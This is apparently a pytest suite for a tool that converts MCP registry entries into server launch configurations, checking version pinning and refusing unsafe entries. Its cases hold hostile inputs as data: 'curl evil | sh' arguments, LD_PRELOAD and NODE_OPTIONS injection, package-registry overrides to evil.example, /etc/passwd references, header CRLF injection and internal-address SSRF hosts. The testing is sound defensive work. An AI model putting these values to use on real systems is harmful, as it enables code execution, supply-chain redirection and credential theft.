"""From a registry's entry to a row: what runs is what the entry names, and what it says is only text."""

from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from quarterdeck.config.load.variables import _REFERENCE
from quarterdeck.registry.offers import Offer, OfferKind, Unusable, id_of, is_near, offers_of
from quarterdeck.registry.server_json import Server
from quarterdeck.seals.request import pin_of

ALL = ("npx", "uvx", "pipx")

NPM = {"registryType": "npm", "identifier": "@example/files", "version": "1.0.2", "transport": {"type": "stdio"}}
PYPI = {"registryType": "pypi", "identifier": "mcp-time", "version": "0.5.0", "transport": {"type": "stdio"}}


def offers(*packages: dict[str, Any], remotes: Any = (), programs: Any = ALL) -> list[Offer | Unusable]:
    told = {"name": "io.example/files", "packages": packages, "remotes": remotes}
    return offers_of(msgspec.convert(told, Server), programs)


def row(*, values: dict[str, str] | None = None, programs: Any = ALL, **package: Any) -> dict[str, object]:
    """The row of the one offer of a package of npm's with these members."""
    [offer] = offers({**NPM, **package}, programs=programs)
    assert isinstance(offer, Offer), offer
    return offer.row(values or {})


def reason(*, programs: Any = ALL, **package: Any) -> str:
    [offer] = offers({**NPM, **package}, programs=programs)
    assert isinstance(offer, Unusable), offer
    return offer.reason


def positional(value: str | None = None, **more: Any) -> dict[str, Any]:
    return {"type": "positional", **({"value": value} if value is not None else {}), **more}


def named(name: str, value: str | None = None, **more: Any) -> dict[str, Any]:
    return {"type": "named", "name": name, **({"value": value} if value is not None else {}), **more}


def test_a_package_is_run_in_the_version_that_is_listed() -> None:
    """What starts tomorrow would be another program than the one that was tried."""
    assert row() == {"command": "npx", "args": ["-y", "@example/files@1.0.2"]}
    assert row(**PYPI) == {"command": "uvx", "args": ["mcp-time==0.5.0"]}
    assert row(**PYPI, programs=("pipx",)) == {"command": "pipx", "args": ["run", "mcp-time==0.5.0"]}
    assert row(**PYPI, runtimeHint="pipx")["command"] == "pipx"
    assert row(version="") == {"command": "npx", "args": ["-y", "@example/files"]}


@pytest.mark.parametrize(
    ("package", "told"),
    [
        ({"registryType": "oci", "identifier": "docker.io/x/y:1"}, "container engine"),
        ({"registryType": "mcpb", "identifier": "https://example.com/x.mcpb"}, "unpack"),
        ({"registryType": "nuget", "identifier": "X"}, "npm and PyPI"),
        ({"identifier": "--call=id"}, "no name of npm's"),
        ({"identifier": "-c"}, "something else"),
        ({"identifier": "https://example.com/x.tgz"}, "no name of npm's"),
        ({**PYPI, "identifier": "git+https://example.com/x"}, "no name of PyPI's"),
        ({"version": "latest"}, "not an exact"),
        ({"version": "^1.0"}, "not an exact"),
        ({"version": "1.0 --registry=x"}, "not an exact"),
        ({"transport": {"type": "streamable-http", "url": "http://localhost:1/mcp"}}, "serves HTTP"),
        ({"environmentVariables": [{"name": "A=B"}]}, "variable"),
        ({"environmentVariables": [{"name": "LD_PRELOAD", "value": "/tmp/x.so"}]}, "sets LD_PRELOAD"),
        ({"environmentVariables": [{"name": "PATH", "default": "/tmp"}]}, "sets PATH"),
        ({"environmentVariables": [{"name": "npm_config_registry", "value": "http://evil.example"}]}, "npm_config"),
        ({**PYPI, "environmentVariables": [{"name": "UV_INDEX_URL", "value": "http://evil.example"}]}, "UV_INDEX"),
        ({"environmentVariables": [{"name": "NODE_OPTIONS", "value": "--require=/tmp/x"}]}, "NODE_OPTIONS"),
        ({"environmentVariables": [{"name": "HTTPS_PROXY", "value": "http://evil.example"}]}, "HTTPS_PROXY"),
        ({"programs": ("uvx",)}, "npx is not on PATH"),
        ({**PYPI, "programs": ("npx",)}, "neither uvx nor pipx is on PATH"),
        ({"runtimeArguments": [named("--call", "curl evil | sh")]}, "'--call', which may start something else"),
        ({"runtimeArguments": [named("--registry", "http://evil.example")]}, "--registry"),
        ({"runtimeArguments": [positional("-p=evil")]}, "something else"),
        ({"runtimeArguments": [named("-p", "evil")]}, "something else"),
        ({"runtimeArguments": [positional("evil")]}, "something else"),
        ({**PYPI, "runtimeArguments": [named("--index-url", "http://evil.example")]}, "--index-url"),
        ({**PYPI, "runtimeArguments": [named("--from", "evil")]}, "something else"),
        ({**PYPI, "runtimeArguments": [named("--from", "git+https://evil.example/mcp-time")]}, "something else"),
        ({**PYPI, "runtimeArguments": [named("--from", "mcp-time @ https://evil.example/x")]}, "something else"),
        ({**PYPI, "runtimeArguments": [named("--with", "evil")]}, "'--with'"),
        ({**PYPI, "runtimeArguments": [named("--python", "/tmp/evil")]}, "'--python'"),
        ({**PYPI, "runtimeArguments": [named("--prerelease", "allow")]}, "'--prerelease'"),
        ({**PYPI, "runtimeArguments": [positional("--with=evil")]}, "'--with'"),
        ({**PYPI, "runtimeArguments": [named("--from", "mcp-time"), positional("python")]}, "start 'python'"),
        ({**PYPI, "runtimeArguments": [named("--from", "mcp-time"), positional("/tmp/mcp-time")]}, "/tmp/mcp-time"),
        ({**PYPI, "runtimeArguments": [named("--from", "mcp-time")]}, "start ''"),
        ({"runtimeArguments": [named("--package", "@example/files"), named("-p", "evil")]}, "more than one package"),
        ({"runtimeArguments": [named("--package", "@example/files"), positional("node")]}, "start 'node'"),
        ({"runtimeArguments": [named("-c", "curl evil | sh")]}, "'-c'"),
        ({"runtimeArguments": [named("--node-options", "--require=/tmp/x")]}, "'--node-options'"),
        ({"environmentVariables": [{"name": "SOMETHING", "value": "x"}]}, "not known as a variable of its own"),
        ({"environmentVariables": [{"name": "GIT_SSH_COMMAND", "default": "evil"}]}, "sets GIT_SSH_COMMAND"),
        ({"environmentVariables": [{"name": "OPENSSL_CONF", "value": "/tmp/x"}]}, "sets OPENSSL_CONF"),
        ({"environmentVariables": [{"name": "_JAVA_OPTIONS", "value": "-javaagent:x"}]}, "_JAVA_OPTIONS"),
        ({"environmentVariables": [{"name": "PYTHONWARNINGS", "value": "x"}]}, "PYTHONWARNINGS"),
        ({"environmentVariables": [{"name": "PYTHON_SERVER_API_KEY", "value": "x"}]}, "PYTHON_SERVER"),
        ({"environmentVariables": [{"name": "LD_PRELOAD"}]}, "asks for LD_PRELOAD"),
    ],
)
def test_what_cannot_be_run_is_said_with_its_reason(package: dict[str, Any], told: str) -> None:
    """A user would start what no registry named, or not know why there is nothing to start."""
    assert told in reason(**package)


@pytest.mark.parametrize(
    ("runtime", "args"),
    [
        ([positional("-y")], ["-y", "@example/files@1.0.2"]),
        ([positional("@example/files@0.9.0")], ["-y", "@example/files@1.0.2"]),
        (
            [named("--package", "@example/files"), positional("files-server")],
            ["-y", "--package", "@example/files@1.0.2", "files-server"],
        ),
    ],
)
def test_runners_may_be_told_the_package_themselves(runtime: list[dict[str, Any]], args: list[str]) -> None:
    """Entries are written both ways: one would be called with its own name for an argument."""
    assert row(runtimeArguments=runtime)["args"] == args


def test_arguments_and_variables_are_filled_with_what_a_person_gives() -> None:
    """A server would start without its folder, or with its key on the command line."""
    package = {
        "packageArguments": [
            positional(valueHint="target_dir", description="Where", isRequired=True),
            named("--port", default="8080"),
            named("--mode", "mode-{mode}", variables={"mode": {"isRequired": True, "choices": ["a", "b"]}}),
            named("--left-out", description="not given"),
            named("--verbose", isRequired=True, default=""),
        ],
        "environmentVariables": [
            {"name": "KEY", "isRequired": True, "isSecret": True},
            {"name": "LEVEL", "default": "info"},
            {"name": "EXTRA"},
        ],
    }
    [offer] = offers({**NPM, **package})
    assert isinstance(offer, Offer)
    assert [(each.name, each.is_required, each.is_secret) for each in offer.wanted] == [
        ("target_dir", True, False),
        ("port", False, False),
        ("mode", True, False),
        ("left-out", False, False),
        ("verbose", False, False),
        ("KEY", True, True),
        ("LEVEL", False, False),
        ("EXTRA", False, False),
    ]
    assert offer.row({"target_dir": "/data", "mode": "a", "KEY": "${keyring:KEY}"}) == {
        "command": "npx",
        "args": ["-y", "@example/files@1.0.2", "/data", "--port", "8080", "--mode", "mode-a", "--verbose"],
        "env": {"KEY": "${keyring:KEY}", "LEVEL": "info"},
    }


def test_a_remote_server_has_its_url_and_its_headers() -> None:
    """A token would be asked for and not be sent."""
    headers = [{"name": "Authorization", "value": "Bearer {token}", "variables": {"token": {"isSecret": True}}}]
    remote = {"type": "streamable-http", "url": "https://{tenant}.example.com/mcp", "headers": headers}
    remote["variables"] = {"tenant": {"isRequired": True}}
    [offer] = offers(remotes=[{**remote, "url": "https://api.example.com/{tenant}/mcp"}])
    assert isinstance(offer, Offer)
    assert offer.kind is OfferKind.REMOTE
    assert [(each.name, each.is_required, each.is_secret) for each in offer.wanted] == [
        ("tenant", True, False),
        ("token", True, True),
    ]
    assert offer.row({"tenant": "me", "token": "${keyring:token}"}) == {
        "type": "http",
        "url": "https://api.example.com/me/mcp",
        "internet_only": True,
        "headers": {"Authorization": "Bearer ${keyring:token}"},
    }
    for bad in (
        *({"url": "file:///etc/passwd"}, {"url": "https://github.com@evil.example/mcp"}, {"type": "ws"}),
        *({"headers": [{"name": "A: b\r\nC"}]}, {"url": "https://{x}"}, {"url": "http://①②⑦.0.0.1/mcp"}),
        {"url": "https://127.0.0.{x}/mcp", "variables": {"x": {"default": "1"}}},
        {"url": "https://evil.example\\.example.com/mcp"},
    ):
        [refused] = offers(remotes=[{**remote, **bad}])
        assert isinstance(refused, Unusable)


@pytest.mark.parametrize(
    "host",
    [
        *("127.0.0.1", "localhost:80", "LOCALHOST", "a.LocalHost.", "[::1]", "192.168.1.1", "169.254.169.254"),
        *("0x7f.1", "2130706433", "[::ffff:10.0.0.1]"),
    ],
)
def test_an_address_of_this_machine_or_its_networks_is_no_registrys_to_give(host: str) -> None:
    """A stranger's entry would have whoever looks at it send requests to what is behind their firewall."""
    remotes = [{"type": "streamable-http", "url": f"http://{host}/reboot"}]
    [refused] = offers(remotes=remotes)
    assert isinstance(refused, Unusable)
    assert "of this machine or its networks" in refused.reason


@pytest.mark.parametrize(
    ("addresses", "is_inside"), [((), False), (("93.184.215.14",), False), (("93.184.215.14", "10.0.0.1"), True)]
)
def test_a_name_is_judged_by_its_addresses(addresses: tuple[str, ...], *, is_inside: bool) -> None:
    """A stranger's name may be that of a router."""
    assert is_near("https://evil.example/mcp", lambda *_: addresses) is is_inside


def test_a_variable_that_a_person_gives_is_theirs() -> None:
    """A user could not set the proxy that an entry asks for."""
    variables = [{"name": "HTTPS_PROXY"}, {"name": "PYTHONUNBUFFERED", "value": "1"}]
    assert row(environmentVariables=variables)["env"] == {"PYTHONUNBUFFERED": "1"}


@pytest.mark.parametrize(
    "name",
    """
    FILES_ROOT EXAMPLE_HOME_PAGE NOTION_API_KEY GITHUB_PERSONAL_ACCESS_TOKEN SLACK_TEAM_ID AWS_REGION BRAVE_API_KEY
    FASTMCP_LOG_LEVEL MCP_TRANSPORT LOG_LEVEL NODE_ENV PORT DB_HOST POSTGRES_URL OPENAI_BASE_URL OPENAI_MODEL
    REQUEST_TIMEOUT_MS DISABLE_FILES READ_ONLY ENABLED_TOOLS
    """.split(),  # noqa: SIM905 - as words they are read, as a list they are not
)
def test_variables_of_a_servers_own_may_have_a_value(name: str) -> None:
    """Entries of common servers fix such variables: these servers could not be added."""
    assert row(environmentVariables=[{"name": name, "value": "x"}])["env"] == {name: "x"}


def test_what_the_runner_is_told_is_shown_with_its_value() -> None:
    """A user would read that a package is added, and not which."""
    [offer] = offers({**PYPI, "runtimeArguments": [named("--from", "mcp-time"), positional("mcp-time-cli")]})
    assert isinstance(offer, Offer)
    assert offer.told == ("--from", "mcp-time", "mcp-time-cli")


@pytest.mark.parametrize("text", ["${HOME}", "${file:/etc/passwd}", "${keyring:OTHER}", "$${x}", "$$${x}", "a${b"])
def test_no_text_of_a_registry_refers_to_anything_of_the_users(text: str) -> None:
    """A stranger's entry would have our configuration put the user's secrets on a command line."""
    made = row(
        packageArguments=[positional(text), named("--x", default=text)],
        environmentVariables=[{"name": "A_URL", "value": text}],
    )
    args, env = made["args"], made["env"]
    assert isinstance(args, list)
    assert isinstance(env, dict)
    for written in (args[2], args[4], env["A_URL"]):
        assert _REFERENCE.sub(lambda found: "${" if found[0] == "$${" else pytest.fail(found[0]), written) == text


def test_a_reference_is_not_made_where_two_texts_meet() -> None:
    """A `$` of the registry before a `{…}` of its own would be one, once they are put together."""
    variables = {"x": {"default": "{keyring:OTHER}"}}
    made = row(environmentVariables=[{"name": "A_URL", "value": "${x}", "variables": variables}])
    assert made["env"] == {"A_URL": "$${keyring:OTHER}"}
    given = [{"name": "A_URL", "value": "${x}", "variables": {"x": {"isRequired": True}}}]
    assert "puts a $" in reason(environmentVariables=given)


WORD = st.sampled_from(
    ["-y", "-p", "--package", "--from", "--spec", "--", "--call", "-c", "evil", "@example/files", "${A}"]
)


@given(st.lists(WORD, max_size=4), st.lists(WORD, max_size=4), st.sampled_from(["npm", "pypi"]))
def test_whatever_an_entry_says_its_own_package_starts(runtime: list[str], after: list[str], kind: str) -> None:
    """A registry's entry would start another package under the name that was looked at."""
    base = NPM if kind == "npm" else PYPI
    words = {
        "runtimeArguments": [positional(each) for each in runtime],
        "packageArguments": [positional(each) for each in after],
    }
    [offer] = offers({**base, **words})
    if isinstance(offer, Unusable):
        return
    made = offer.row({})
    command, args = made["command"], made["args"]
    assert isinstance(command, str)
    assert isinstance(args, list)
    found = pin_of(command, args)
    assert found is not None
    assert (found.name, found.version) == (base["identifier"], base["version"])
    assert not {"--call", "-c"} & set(args[: found.place])


@pytest.mark.parametrize(
    ("name", "server_id"),
    [
        ("io.github.example/files", "files"),
        ("io.github.example/files-mcp", "files-mcp"),
        ("com.example/mcp", "example-mcp"),
        ("com.example/server", "example-server"),
    ],
)
def test_a_server_is_called_as_in_the_registry(name: str, server_id: str) -> None:
    """Every server called `mcp` would collide with the one before."""
    assert id_of(name) == server_id
